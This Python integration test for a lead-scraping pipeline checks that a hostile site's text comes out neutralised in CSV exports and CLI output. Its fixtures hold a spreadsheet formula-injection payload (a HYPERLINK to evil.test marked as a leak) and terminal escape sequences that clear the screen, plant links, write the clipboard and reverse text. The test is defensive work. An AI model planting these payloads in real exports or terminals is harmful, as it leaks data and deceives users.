"""A hostile site's text through the real pipeline and CLI: its formula comes out inert in the CSV export, and
its terminal escape codes and bidirectional overrides never reach the terminal of whoever runs the CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
import unicodedata
import uuid
from pathlib import Path

import support
from leadworker.config import Settings
from leadworker.contracts import ScrapeJob
from leadworker.store.pool import Database

HOST = "hostile-co.test"
FORMULA = '=HYPERLINK("http://evil.test/?leak","Details")'
# Clears the screen, plants a hyperlink, writes the clipboard (OSC 52), and reverses what follows (U+202E).
ESCAPES = "\x1b[2J\x1b]8;;http://evil.test/\x1b\\\x1b]52;c;ZXZpbA==\x07"
ORGANIZATION = {
    "@context": "https://schema.org",
    "@type": "Organization",
    "name": FORMULA + ESCAPES + "\u202eHbmG",
    "telephone": "+49 30 1234567",
    "email": "info@hostile-co.test",
    "address": "Hauptstr. 1\x1b[8m, 10115 Berlin",
}
HOME = (
    f'<html lang="de"><head><title>Hostile</title><script type="application/ld+json">{json.dumps(ORGANIZATION)}'
    "</script></head><body><h1>Hostile Co</h1><p>Tel +49 30 1234567</p></body></html>"
)
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


async def cli(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    result = await asyncio.to_thread(support.run_cli, settings, *args)
    assert result.returncode == 0, result.stderr
    return result


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` for a formula (E.164 phones only evaluate to numbers)."""
    head = cell.lstrip()[:1]
    if not head or cell[0] in "\t\r\n":
        return bool(cell)
    return unicodedata.normalize("NFKC", head) in "=+-@" and not cell.replace("; ", "").lstrip("+").isdigit()


async def test_a_hostile_sites_formula_and_escape_codes_come_out_inert(
    settings: Settings, db: Database, scripted_site: support.ScriptedSite, tmp_path: Path
) -> None:
    scripted_site.page("/", HOME)
    cfg = settings.model_copy(update={"resolve": {**settings.resolve, HOST: "127.0.0.1"}})
    job = ScrapeJob(job_id=uuid.uuid4(), targets=[scripted_site.url(HOST)], max_pages=1, render="static")
    await support.publish(cfg, db, [job])
    await support.run_until_idle(cfg, ("scrape", "normalize", "score"), idle=0.8)

    raw = await db.fetchval(
        "SELECT r.record FROM raw_leads r JOIN scrape_job_leads j ON j.raw_lead_id = r.id WHERE j.job_id = $1",
        job.job_id,
    )
    assert raw is not None and "\x1b" in raw["company_name"]  # the raw record keeps what the site wrote
    lead = await db.fetchrow("SELECT id, company_name, address FROM leads WHERE domain = $1", HOST)
    assert lead is not None
    assert not any(c in lead["company_name"] + lead["address"] for c in CONTROLS), dict(lead)  # normalized
    assert lead["company_name"].startswith("=HYPERLINK(")

    out = tmp_path / "leads.csv"
    await cli(cfg, "leads", "export", "--job", str(job.job_id), "--format", "csv", "--output", str(out))
    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["company_name"].startswith("'=HYPERLINK(")
    assert row["phones"] == "+49301234567"  # E.164 stays a readable number
    assert [name for name, cell in row.items() if evaluated(cell)] == []
    assert not any(c in out.read_text(encoding="utf-8") for c in CONTROLS)

    shown = await cli(cfg, "leads", "show", str(lead["id"]))
    assert "HYPERLINK" in shown.stdout and not any(c in shown.stdout for c in CONTROLS)
    job_text = await cli(cfg, "jobs", "show", str(job.job_id))
    assert not any(c in job_text.stdout for c in CONTROLS), job_text.stdout
    assert "\\x1b[2J" in job_text.stdout  # the raw record's escape codes, shown as text
